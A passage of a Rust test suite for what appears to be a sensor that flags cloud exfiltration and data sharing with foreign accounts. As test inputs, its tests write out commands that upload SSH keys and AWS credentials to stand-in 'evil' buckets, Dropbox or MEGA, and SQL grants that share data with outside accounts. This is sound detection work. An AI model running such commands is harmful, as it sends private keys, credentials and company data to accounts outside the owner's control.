        (&["duck", "--upload", "s3://evil/k", key], &[], "s3.amazonaws.com", Some("evil")),
        (&["mega-exec", "put", key, "/x"], &[], "g.api.mega.co.nz", None),
        (&["megaput", "--path", "/Root", key], &[], "g.api.mega.co.nz", None),
    ];
    for (line, env, host, tenant) in table {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let program = tool(line[0].to_owned().leak());
        let p =
            w.exec_in(1.1, &child, program, line, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.upload(2.0, &p, host, 20_000);
        let told = w.tell();
        let alert = told.one_of_any_confidence();
        assert_eq!(alert.tenant.as_deref(), *tenant, "{line:?}");
        assert!(
            alert.reads.iter().any(|read| read.evidence.as_str() == "argv"),
            "{line:?}: {:?}",
            alert.reads
        );
        assert!(alert.reads.iter().all(|read| read.path.to_string().contains("/.ssh")), "{line:?}");
    }
}

/// An administrator's own tool is told its account by a variable of its own.
#[test]
fn the_sensor_keeps_the_variables_of_own_tools() {
    let vault = "[[tool]]\nname = \"vault\"\nservice = \"cloudflare-r2\"\ntenant_env = [\"VAULT_SPACE\"]\n\
                 [[tool.command]]\nwords = [\"push\"]\ndoes = \"transfer\"\nargs = [\"from\"]\n";
    let key = ".ssh/id_rsa";
    let mut w = World::new();
    w.policy = format!("{}\n{vault}", own());
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let child = w.fork(1.0, &shell);
    let (line, env) = (["vault", "push", key], ["HOME=/Users/alice", "VAULT_SPACE=evil", "VAULT_KEY=x"]);
    let p = w.exec_in(1.1, &child, tool("vault"), &line, "null", &[], &env);
    w.upload(2.0, &p, "api.cloudflare.com", 20_000);
    let told = w.tell();
    let alert = told.one_of_any_confidence();
    assert_eq!(alert.tenant.as_deref(), Some("evil"));
}

/// The name of a profile or role may tell whose account a copy is made in. Names are given at will: they accuse, and excuse
/// nothing.
#[test]
fn profiles_that_name_accounts_accuse() {
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        w.exec_in(1.1, &child, tool("aws"), args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.tell()
    };
    let copy =
        ["aws", "ec2", "copy-snapshot", "--source-region", "us-east-1", "--source-snapshot-id", "snap-1"];
    let by_option = [&copy[..], &["--profile", "AdministratorAccess-999988887777"]].concat();
    for (args, env) in [
        (&by_option[..], &[][..]),
        (&copy, &["AWS_PROFILE=Admin-999988887777"]),
        (&copy, &["AWS_ROLE_ARN=arn:aws:iam::999988887777:role/x"]),
    ] {
        let told = told(args, env);
        assert_eq!(told.one_of_any_confidence().tenant.as_deref(), Some("999988887777"), "{args:?} {env:?}");
    }
    for env in [&[][..], &["AWS_PROFILE=ops"], &["AWS_PROFILE=AdministratorAccess-111122223333"]] {
        let told = told(&copy, env);
        assert_eq!(
            (told.low().tenant.as_deref(), told.low().tenant_verdict.as_str()),
            (None, "unknown"),
            "{env:?}"
        );
    }
}

/// The project that commands run in may stand in the environment, and the place that something is copied from too.
#[test]
fn the_environment_names_the_project_and_where_from() {
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let program = tool(args[0].to_owned().leak());
        w.exec_in(1.1, &child, program, args, "null", &[], &[&["HOME=/Users/alice"][..], env].concat());
        w.tell()
    };
    let image =
        ["gcloud", "compute", "images", "create", "x", "--source-image=projects/corp-data/global/images/i"];
    told(&image, &[]).none();
    let there = told(&image, &["CLOUDSDK_CORE_PROJECT=evil-project"]);
    assert_eq!(there.alert().tenant.as_deref(), Some("evil-project"));
    told(&image, &["CLOUDSDK_CORE_PROJECT=corp-data"]).none();
    let by_option = [&image[..], &["--project=corp-data"]].concat();
    told(&by_option, &["CLOUDSDK_CORE_PROJECT=evil-project"]).none();
    // What the project owns is nobody else.
    let share = [
        "gcloud",
        "storage",
        "buckets",
        "add-iam-policy-binding",
        "gs://corp-data",
        "--member=serviceAccount:job@some-project.iam.gserviceaccount.com",
    ];
    told(&share, &["CLOUDSDK_CORE_PROJECT=some-project"]).none();
    told(&share, &["CLOUDSDK_CORE_PROJECT=other"]).alert();
    // A bucket is in no project that one works in.
    let bucket = ["gcloud", "storage", "cp", "gs://corp-data/x", "gs://evil/x"];
    assert_eq!(told(&bucket, &["CLOUDSDK_CORE_PROJECT=corp-data"]).alert().tenant.as_deref(), Some("evil"));
    let from = "RESTIC_FROM_REPOSITORY=s3:s3.amazonaws.com/corp-data";
    let copied = told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "copy"], &[from]);
    assert_eq!(copied.alert().tenant.as_deref(), Some("evil"));
    told(&["restic", "-r", "s3:s3.amazonaws.com/corp-backup", "copy"], &[from]).none();
    told(&["restic", "-r", "s3:s3.amazonaws.com/evil", "snapshots"], &[from]).none();
}

/// What a database is asked may let another account in.
#[test]
fn grants_in_statements_are_told() {
    let told = |args: &[&str]| {
        let mut w = World::new();
        w.policy = own();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        w.spawn(1.0, &shell, tool(args[0].to_owned().leak()), args);
        w.tell()
    };
    for (args, service, tenant) in [
        (&["snowsql", "-q", "ALTER SHARE s ADD ACCOUNTS = evilorg.acct"][..], "snowflake", "evilorg.acct"),
        (
            &["snow", "sql", "-q", "use role a; alter share s set accounts=evilorg.acct"],
            "snowflake",
            "evilorg.acct",
        ),
        (
            &[
                "psql",
                "-h",
                "c.redshift.amazonaws.com",
                "-c",
                "GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777'",
            ],
            "aws",
            "999988887777",
        ),
        (
            &[
                "aws",
                "redshift-data",
                "execute-statement",
                "--sql",
                "grant usage on datashare s to account '999988887777'",
            ],
            "aws",
            "999988887777",
        ),
        (
            &[
                "bq",
                "query",
                "--use_legacy_sql=false",
                "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:eve@example.com\"",
            ],
            "gcp",
            "eve@example.com",
        ),
    ] {
        let told = told(args);
        let alert = told.alert();
        let found = (alert.service.as_deref(), alert.tenant.as_deref(), alert.tenant_verdict.as_str());
        assert_eq!(found, (Some(service), Some(tenant), "foreign"), "{args:?}");
        assert_eq!(alert.rules[0].techniques[0].as_ref(), "T1537", "{args:?}");
    }
    for args in [
        &["snowsql", "-q", "CREATE SHARE s; GRANT SELECT ON TABLE t TO SHARE s"][..],
        &["snowsql", "-q", "alter share s remove accounts = evilorg.acct"],
        &["psql", "-c", "GRANT USAGE ON DATASHARE s TO ACCOUNT '111122223333'"],
        &["psql", "-c", "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob"],
        &["bq", "query", "GRANT `roles/bigquery.dataViewer` ON SCHEMA d TO \"user:bob@corp.com\""],
        &["psql"],
        &["snowsql", "-f", "x.sql"],
    ] {
        told(args).none();
    }
}

/// The id of an object in a directory is nearly always one of one's own: it does not tell, and so it accuses nobody.
#[test]
fn an_objects_id_does_not_tell_whose_it_is() {
    let scope = "/subscriptions/1/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/corpstore";
    for line in [
        format!(
            "az role assignment create --role Reader --assignee 99999999-8888-7777-6666-555555555555 --scope {scope}"
        ),
        format!(
            "az role assignment create --role Reader --assignee-object-id 99999999-8888-7777-6666-555555555555 --scope {scope}"
        ),
    ] {
        let told = run(&line, &own());
        let alert = told.low();
        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
        run(&line.replace("99999999-8888-7777-6666", "11111111-2222-3333-4444"), &own()).none();
    }
}

/// A body that stands in a file; links, which let in whoever has them.
#[test]
fn calls_that_do_not_say_whom_they_let_in() {
    for line in [
        "curl -d @body.json https://graph.microsoft.com/v1.0/me/drive/items/01A/invite",
        "curl -d {\"type\":\"view\",\"scope\":\"anonymous\"} https://graph.microsoft.com/v1.0/me/drive/items/01A/createLink",
        "curl --json {\"path\":\"/x\"} https://api.dropboxapi.com/2/sharing/create_shared_link_with_settings",
        "wget --post-data {\"path\":\"/x\"} https://api.dropboxapi.com/2/files/copy_reference/get",
        "az rest --method post --url https://management.azure.com/subscriptions/1/resourceGroups/rg/providers/Microsoft.Compute/snapshots/s/beginGetAccess?api-version=2023-04-02 --body {\"access\":\"Read\",\"durationInSeconds\":86400}",
    ] {
        let told = run(line, &own());
        assert_eq!(told.low().rules[0].techniques[0].as_ref(), "T1537", "{line}");
    }
}

/// What a configuration of the tool's own names no command line says; the tool opens it. A file that is meant to be the
/// configuration, and is a key, is opened just so.
#[test]
fn files_that_a_configuration_names_are_told_by_their_open() {
    let key = "/Users/alice/.ssh/id_rsa";
    for (line, opened) in [
        ("curl -K /private/tmp/c https://content.dropboxapi.com/2/files/upload", key),
        ("curl -K /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/2/files/upload", key),
        (
            "curl --netrc-file /Users/alice/.aws/credentials -T x https://content.dropboxapi.com/",
            "/Users/alice/.aws/credentials",
        ),
        ("curl --netrc-file /Users/alice/.netrc -K /private/tmp/c https://content.dropboxapi.com/", key),
        ("wget --config=/private/tmp/c https://content.dropboxapi.com/", key),
        ("wget --config=/Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
        ("wget --config /Users/alice/.ssh/id_rsa https://content.dropboxapi.com/", key),
    ] {
        let words: Vec<&'static str> = line.split(' ').map(|word| &*word.to_owned().leak()).collect();
        let story = |opens: bool, bytes: usize| {
            let mut w = World::new();
            let shell = w.launch(0.0, ZSH, &["-zsh"]);
            let curl = w.spawn(1.0, &shell, tool(words[0]), &words);
            if opens {
                w.open(1.1, &curl, opened);
            }
            w.upload(1.2, &curl, "content.dropboxapi.com", bytes);
            w.tell()
        };
        let told = story(true, 30_000);
        assert_eq!(told.alerts().len(), 1, "{line}");
        assert_eq!(told.alert().reads[0].evidence.as_str(), "open", "{line}");
        assert_eq!(story(false, 30_000).alerts().len(), 0, "{line}: it is the tool's own");
    }
}
